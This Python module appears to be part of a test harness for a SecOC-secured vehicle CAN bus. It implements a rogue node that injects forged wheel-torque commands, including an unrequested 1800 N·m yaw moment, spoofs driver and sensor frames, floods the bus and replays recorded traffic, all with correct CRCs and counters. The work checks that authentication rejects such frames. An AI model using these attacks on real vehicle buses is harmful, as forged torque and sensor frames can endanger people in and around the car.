"""A rogue node on the bus: attacks on the secured frames (harness faults ``rogue-*``).

Run by the harness as its own OS process, without any key::

  python -m harness.run.rogue --bus SPEC --attack inject|replay|flood|spoof|sensor-replay
                              [--rate R] [--record-s S] [--seed N] [--summary FILE]
  python -m harness.run.rogue --bus SPEC --attack recording --log FILE [--summary FILE]

* ``inject``: answers every SYNC before the controller does with its own well-formed
  WHEEL_TORQUE_CMD — correct CRC, the next alive counter, the ECHO_CYCLE of that SYNC —
  commanding the yaw moment no driver asked for (``ROGUE_TORQUES_NM``), followed by a forged
  authenticator (predicted freshness, random MAC, correct CRC and counter). Without SecOC the
  plant obeys it (it arrives first); with SecOC it is rejected.
* ``replay``: records the controller's frames (torque, status, their authenticators) for
  ``--record-s`` seconds of bus time (counted in 10 ms cycles, not on the wall clock), then
  on every SYNC replays the next recorded cycle, again and again.
* ``flood``: forged torque + authenticator pairs at ``--rate`` pairs per second, every one well
  formed (CRC, counters), random MAC and freshness.
* ``spoof``: after every SYNC, before the plant's next burst, a well-formed DRIVER_INPUTS
  (full accelerator, ``SPOOF_DRIVER``) and MOTION_SENSORS (a yaw rate the car does not have,
  ``SPOOF_MOTION``) — correct CRC-16, the next alive counter of each — each followed by a
  forged authenticator (predicted freshness, random MAC). Without SecOC the controller takes
  them for the plant's (the genuine frames then look repeated); with SecOC they are dropped.
* ``sensor-replay``: records the plant's driver and sensor frames with their authenticators
  for ``--record-s`` seconds of bus time, then after every SYNC replays the next recorded
  cycle's frames, again and again.
* ``recording``: replays the bus log of an earlier run (``--log``, BLF/ASC/MF4), as an attacker
  with a capture of an earlier drive would: on every SYNC of the live bus it sends the next
  recorded cycle's secured frames — the plant's burst ending in its SYNC and SYNC_AUTH, and
  the controller's answer to the cycle before — once through the log, ``--ahead`` cycles
  ahead of the live bus (default 20: within one trip, fresher than the live frames). They are
  authentic, but of an earlier trip: the controller rejects the SYNCs as stale (their trip
  is on the wire, below the live one) and the data frames fail their MACs (the MAC covers the
  full freshness value, trip included), as does the plant with the torque frames.

Every frame it sends is counted; ``--summary`` writes the counts as JSON. Stops on SIGTERM.
"""

from __future__ import annotations

import argparse
import json
import time
from pathlib import Path

import can
import numpy as np

from can_db.codec import Codec, Decoded
from can_db.logfiles import read_log
from can_db.process.stopflag import StopFlag
from can_db.secoc import FV_LO_BITS, SECURED
from can_db.transport.bus import BusDisconnected, open_bus

#: The rogue's command, N·m (FL, FR, RL, RR): full torque split into a 1800 N·m yaw moment.
ROGUE_TORQUES_NM = (-450.0, 450.0, -450.0, 450.0)
CTRL_FRAMES = ("WHEEL_TORQUE_CMD", "WHEEL_TORQUE_AUTH", "CTRL_STATUS", "CTRL_STATUS_AUTH")
#: spoofed driver frame: full accelerator, no brake, straight steering, function enabled
SPOOF_DRIVER = {"SWA": 0.0, "ACCEL_PEDAL": 100.0, "BRAKE_PEDAL": 0.0, "STAB_ENABLE": 1.0}
#: spoofed inertial frame: a 60 deg/s yaw rate and 8 m/s² lateral acceleration
SPOOF_MOTION = {"YAW_RATE": 60.0, "AX": 0.0, "AY": 8.0}
PLANT_DATA = ("DRIVER_INPUTS", "MOTION_SENSORS", "WHEEL_SPEEDS", "VEHICLE_EST")


class Rogue:
    """Forges frames from what it sees on the bus (no key)."""

    def __init__(self, seed: int) -> None:
        self.codec = Codec()
        self.rng = np.random.default_rng(seed)
        self.tq_id = self.codec.messages["WHEEL_TORQUE_CMD"].frame_id
        self.auth_id = self.codec.messages["WHEEL_TORQUE_AUTH"].frame_id
        self.sent = 0
        self.last_fv_lo = 0
        self.auth_counter = 0

    def forged_pair(self, echo: int, counter: int, fv_lo: int) -> list[can.Message]:
        """A torque frame with the rogue's torques and a forged authenticator."""
        values = dict(zip(("TQ_FL", "TQ_FR", "TQ_RL", "TQ_RR"), ROGUE_TORQUES_NM, strict=True))
        values["ECHO_CYCLE"] = float(echo % 256)
        data, _ = self.codec.encode("WHEEL_TORQUE_CMD", values, counter)
        mac = float(self.rng.integers(0, 1 << 32))
        auth, _ = self.codec.encode("WHEEL_TORQUE_AUTH",
                                    {"FV_LO": float(fv_lo % (1 << FV_LO_BITS)), "MAC": mac},
                                    self.auth_counter)
        self.auth_counter = (self.auth_counter + 1) % 16
        self.sent += 2
        return [can.Message(arbitration_id=self.tq_id, data=data, is_extended_id=False),
                can.Message(arbitration_id=self.auth_id, data=auth, is_extended_id=False)]


def _inject(bus: can.BusABC, rogue: Rogue, stop: StopFlag) -> None:
    own: set[bytes] = set()
    torque_counter = 15  # the controller's first torque frame has alive counter 0
    while not stop():
        msg = bus.recv(timeout=0.1)
        if msg is None or bytes(msg.data) in own:
            continue
        got = rogue.codec.decode_message(msg)
        if not isinstance(got, Decoded):
            continue
        if got.name == "WHEEL_TORQUE_AUTH":
            rogue.last_fv_lo = int(got.values["FV_LO"])
            rogue.auth_counter = (got.counter + 1) % 16
        elif got.name == "WHEEL_TORQUE_CMD":
            torque_counter = got.counter
        elif got.name == "SYNC":
            # predicted freshness of this cycle: index 0 of the SYNC's cycle
            cycle = int(got.values["CYCLE"])
            fv_lo = (cycle << 8) & ((1 << FV_LO_BITS) - 1)
            frames = rogue.forged_pair(cycle, torque_counter + 1, fv_lo)
            own.clear()
            for frame in frames:
                own.add(bytes(frame.data))
                bus.send(frame)


def _spoof(bus: can.BusABC, rogue: Rogue, stop: StopFlag) -> None:
    """After each SYNC: forged DRIVER_INPUTS and MOTION_SENSORS with the next counters and
    forged authenticators (predicted freshness of the next cycle, random MAC)."""
    codec = rogue.codec
    counters: dict[str, int] = {}
    auth_counters: dict[str, int] = {}
    spoofs = (("DRIVER_INPUTS", SPOOF_DRIVER), ("MOTION_SENSORS", SPOOF_MOTION))
    ids = {codec.messages[n].frame_id: n for n, _ in spoofs}
    auth_ids = {codec.messages[f"{n}_AUTH"].frame_id: n for n, _ in spoofs}
    sync_id = codec.messages["SYNC"].frame_id
    own: set[bytes] = set()
    while not stop():
        msg = bus.recv(timeout=0.1)
        if msg is None or bytes(msg.data) in own:
            continue
        fid = msg.arbitration_id
        if fid in ids or fid in auth_ids:
            got = codec.decode_message(msg)
            if isinstance(got, Decoded):
                (counters if fid in ids else auth_counters)[got.name.removesuffix("_AUTH")] \
                    = got.counter
            continue
        if fid != sync_id:
            continue
        got = codec.decode_message(msg)
        if not isinstance(got, Decoded):
            continue
        fv_lo = ((int(got.values["CYCLE"]) + 1) << 8) & ((1 << FV_LO_BITS) - 1)
        own.clear()
        for name, values in spoofs:
            counter = (counters.get(name, 15) + 1) % 16
            data, _ = codec.encode(name, values, counter)
            auth_counter = (auth_counters.get(name, 15) + 1) % 16
            auth, _ = codec.encode(f"{name}_AUTH", {
                "FV_LO": float(fv_lo), "MAC": float(rogue.rng.integers(0, 1 << 32))},
                auth_counter)
            counters[name], auth_counters[name] = counter, auth_counter
            for fid_out, payload in ((codec.messages[name].frame_id, data),
                                     (codec.messages[f"{name}_AUTH"].frame_id, auth)):
                own.add(payload)
                bus.send(can.Message(arbitration_id=fid_out, data=payload,
                                     is_extended_id=False))
                rogue.sent += 1


def _sensor_replay(bus: can.BusABC, rogue: Rogue, stop: StopFlag, record_s: float) -> None:
    """Record ``record_s`` of bus time (in SYNCs, 10 ms each) of the plant's driver and
    sensor frames and their authenticators, then after every SYNC replay the next recorded
    cycle's frames, again and again."""
    codec = rogue.codec
    ids = {codec.messages[n].frame_id for n in PLANT_DATA} \
        | {codec.messages[f"{n}_AUTH"].frame_id for n in PLANT_DATA}
    sync_id = codec.messages["SYNC"].frame_id
    cycles: list[list[can.Message]] = [[]]
    want = max(1, round(record_s / 0.01))
    while not stop() and len(cycles) <= want:
        msg = bus.recv(timeout=0.05)
        if msg is None:
            continue
        if msg.arbitration_id == sync_id:
            cycles.append([])
        elif msg.arbitration_id in ids:
            cycles[-1].append(msg)
    cycles = [c for c in cycles[:want] if c]
    _replay_cycles(bus, rogue, stop, cycles, sync_id)


def _replay(bus: can.BusABC, rogue: Rogue, stop: StopFlag, record_s: float) -> None:
    """Record ``record_s`` of bus time (counted in the controller's torque frames, 10 ms
    each, so the attack is the same in lockstep at any speed and in real time), then on
    every SYNC the plant sends, replay the next recorded cycle's frames, again and again."""
    ids = {rogue.codec.messages[n].frame_id for n in CTRL_FRAMES}
    torque_id = rogue.codec.messages["WHEEL_TORQUE_CMD"].frame_id
    sync_id = rogue.codec.messages["SYNC"].frame_id
    cycles: list[list[can.Message]] = []  # the controller's frames, one list per cycle
    want = max(1, round(record_s / 0.01))
    while not stop() and len(cycles) <= want:
        msg = bus.recv(timeout=0.05)
        if msg is None or msg.arbitration_id not in ids:
            continue
        if msg.arbitration_id == torque_id:
            cycles.append([])
        if cycles:
            cycles[-1].append(msg)
    cycles = cycles[:want]
    _replay_cycles(bus, rogue, stop, cycles, sync_id)


def _replay_cycles(bus: can.BusABC, rogue: Rogue, stop: StopFlag,
                   cycles: list[list[can.Message]], sync_id: int) -> None:
    """On every SYNC the plant sends, replay the next recorded cycle's frames, in a loop."""
    print(f"rogue recorded {sum(len(c) for c in cycles)} frames in {len(cycles)} cycles",
          flush=True)
    k = 0
    while cycles and not stop():
        msg = bus.recv(timeout=0.05)
        if msg is None or msg.arbitration_id != sync_id:
            continue
        for old in cycles[k % len(cycles)]:
            bus.send(can.Message(arbitration_id=old.arbitration_id, data=bytes(old.data),
                                 is_extended_id=False))
            rogue.sent += 1
        k += 1


def recorded_cycles(path: Path, codec: Codec) -> list[list[can.Message]]:
    """The secured frames (data frames and authenticators of both nodes) of a bus log, cut
    after every SYNC_AUTH: each part ends with one plant burst's SYNC and SYNC_AUTH."""
    ids = {codec.messages[n].frame_id for pair in SECURED.items() for n in pair}
    sync_auth_id = codec.messages["SYNC_AUTH"].frame_id
    cycles: list[list[can.Message]] = [[]]
    for msg in read_log(path).frames:
        if msg.is_error_frame or msg.is_remote_frame or msg.arbitration_id not in ids:
            continue
        cycles[-1].append(msg)
        if msg.arbitration_id == sync_auth_id:
            cycles.append([])
    return [c for c in cycles if c and c[-1].arbitration_id == sync_auth_id]


def _recording(bus: can.BusABC, rogue: Rogue, stop: StopFlag, path: Path, ahead: int
               ) -> int:
    """After every live SYNC, the next recorded cycle of ``path``, starting ``ahead`` cycles
    into the log (the live bus's cycle + ``ahead``: within one trip such frames would be
    fresher than the live ones and win), once through the log; returns the recorded SYNCs
    sent (bursts)."""
    cycles = recorded_cycles(path, rogue.codec)[ahead:]
    sync_id = rogue.codec.messages["SYNC"].frame_id
    print(f"rogue recorded {sum(len(c) for c in cycles)} frames in {len(cycles)} cycles",
          flush=True)
    bursts = 0
    while bursts < len(cycles) and not stop():
        msg = bus.recv(timeout=0.05)
        if msg is None or msg.arbitration_id != sync_id:
            continue
        for old in cycles[bursts]:
            bus.send(can.Message(arbitration_id=old.arbitration_id, data=bytes(old.data),
                                 is_extended_id=False))
            rogue.sent += 1
        bursts += 1
    return bursts


def _flood(bus: can.BusABC, rogue: Rogue, stop: StopFlag, rate: float) -> None:
    pairs, start = 0, time.monotonic()
    while not stop():
        due = int((time.monotonic() - start) * rate)
        while pairs < due:
            fv_lo = int(rogue.rng.integers(0, 1 << FV_LO_BITS))
            for frame in rogue.forged_pair(pairs, pairs % 16, fv_lo):
                bus.send(frame)
            pairs += 1
        time.sleep(0.001)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m harness.run.rogue", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--bus", required=True)
    parser.add_argument("--attack", choices=("inject", "replay", "flood", "spoof",
                                              "sensor-replay", "recording"), required=True)
    parser.add_argument("--rate", type=float, default=1000.0, help="flood: pairs per second")
    parser.add_argument("--record-s", type=float, default=1.0, help="replay: recording, s")
    parser.add_argument("--log", type=Path, default=None,
                        help="recording: the bus log of an earlier run to replay")
    parser.add_argument("--ahead", type=int, default=20,
                        help="recording: cycles of the log skipped, so the replay runs that "
                             "far ahead of the live bus")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--summary", default=None, help="counts as JSON at exit")
    args = parser.parse_args(argv)
    if args.attack == "recording" and args.log is None:
        parser.error("--attack recording needs --log FILE")
    stop = StopFlag()
    bursts = 0
    rogue = Rogue(args.seed)
    bus = open_bus(args.bus, reconnect_s=5.0)
    print(f"ready rogue {args.attack}", flush=True)
    try:
        if args.attack == "inject":
            _inject(bus, rogue, stop)
        elif args.attack == "replay":
            _replay(bus, rogue, stop, args.record_s)
        elif args.attack == "spoof":
            _spoof(bus, rogue, stop)
        elif args.attack == "sensor-replay":
            _sensor_replay(bus, rogue, stop, args.record_s)
        elif args.attack == "recording":
            bursts = _recording(bus, rogue, stop, args.log, args.ahead)
        else:
            _flood(bus, rogue, stop, args.rate)
    except BusDisconnected:
        pass
    finally:
        bus.shutdown()
    if args.summary:
        Path(args.summary).write_text(json.dumps({"attack": args.attack,
                                                  "frames_sent": rogue.sent,
                                                  "bursts_sent": bursts}) + "\n")
    print(f"rogue {args.attack} sent {rogue.sent} frames", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
